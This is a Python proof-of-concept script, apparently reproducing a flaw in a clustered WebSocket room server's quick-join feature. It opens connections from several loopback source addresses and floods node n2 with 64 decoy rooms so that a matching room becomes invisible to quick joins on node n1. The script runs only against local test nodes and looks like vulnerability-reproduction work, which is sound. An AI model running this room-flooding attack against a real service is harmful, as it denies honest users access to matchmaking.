"""Cluster quick join looks at the 64 fullest open rooms of other nodes only: 64
open rooms with non-matching metadata and PER members each on n2 (PER*4 sessions of
16 rooms) hide n2's matching room from quick joins on n1."""
import asyncio, os, time
from lib18 import *
N1 = "ws://127.0.0.1:7861/ws"; N2 = "ws://127.0.0.1:7862/ws"
ATK = int(os.environ.get("ATK", "1")); PER = int(os.environ.get("PER", "2")); T = int(time.time()) % 100000
async def main():
    mode = "ctf%d" % T
    host, hroom = await honest_quick_join(N2, mode)
    atk = []
    if ATK:
        rooms = ["atk%d-%02d" % (T, i) for i in range(64)]
        for s in range(PER * 4):
            c = C(); c.ws = await websockets.connect(N2, ping_interval=None, local_addr=("127.6.%d.1" % (s + 1), 0)); await c.ws.recv(); c.task = asyncio.create_task(c._read())
            part = rooms[(s % 4) * 16:(s % 4) * 16 + 16]
            await c.send(*[cm(join=pb.JoinRoom(request_id=j + 1, room=r, room_type="relay", create=pb.RoomOptions(metadata={"mode": "other"}))) for j, r in enumerate(part)])
            atk.append(c)
        await asyncio.sleep(1.0)
        print("attacker joined", sum(len(c.of("joined")) for c in atk), "seats in 64 rooms from", len(atk), "connections")
    await asyncio.sleep(2.5)  # renewals (lease/3 = 2 s)
    res = []
    for i in range(5):
        h = await C().open(url=N1)
        await h.send(cm(quick_join=pb.QuickJoin(request_id=1, room_type="relay", filters={"mode": mode})))
        m = await h.wait(lambda k, m: k in ("joined", "error", "redirect"))
        k = m.WhichOneof("kind"); res.append((k, getattr(m, k).room))
        await h.close()
        await asyncio.sleep(0.2)
    print("honest quick joins on n1 ->", res, "(expected: redirect to", hroom, ")")
asyncio.run(main())
